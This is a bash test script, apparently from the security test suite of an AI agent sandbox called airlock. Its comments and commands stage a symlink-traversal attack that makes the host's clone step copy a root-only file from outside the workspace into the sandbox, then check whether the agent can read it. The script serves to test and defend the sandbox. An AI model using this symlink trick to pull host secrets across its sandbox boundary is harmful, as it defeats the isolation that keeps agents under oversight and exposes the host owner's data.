#!/bin/bash
# Clone mode. HEAD tracks a/secret.txt (and .gitignore "/a"); in the user's
# working tree "a" is now an (ignored) symlink to a host folder outside the
# workspace, root-only (mode 700), holding secret.txt. git status on the
# host reports " D a/secret.txt" (git never looks beyond a symlink), and
# wsclone's copyChanged then os.Lstat()s / copies src/a/secret.txt, which
# the kernel resolves THROUGH the symlink: host root copies the host file
# into the sandbox's workspace (and CopyBaseline's host git add stages it
# into refs/airlock/base). A plain copy or the guest would only see a link.
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
. "$(dirname "$0")/../lib.sh"
S=$T/hostonly; mkdir -p $S; chmod 700 $S; echo "HOSTSECRET-$$" > $S/secret.txt
git init -q $T/repo && cd $T/repo || exit 2
mkdir a; echo placeholder > a/secret.txt; echo /a > .gitignore; echo hi > README
write_sandbox clone; git add -A && git add -f a/secret.txt && git commit -qm init || exit 2
rm -rf a; ln -s $S a
git status --porcelain
U=; for i in 1 2 3; do airlock up --yes >"$T/up.log" 2>&1 && { U=1; break; }; sleep 1; done; [ -n "$U" ] || { cat $T/up.log; exit 2; }
got=$(airlock exec $N -- sh -c 'cat /workspace/a/secret.txt; git -C /workspace show refs/airlock/base:a/secret.txt 2>/dev/null' 2>&1)
echo "agent reads: $got"
case "$got" in *HOSTSECRET-$$*) echo "host file outside the workspace copied into the sandbox by host root"; R=1;; esac
finish
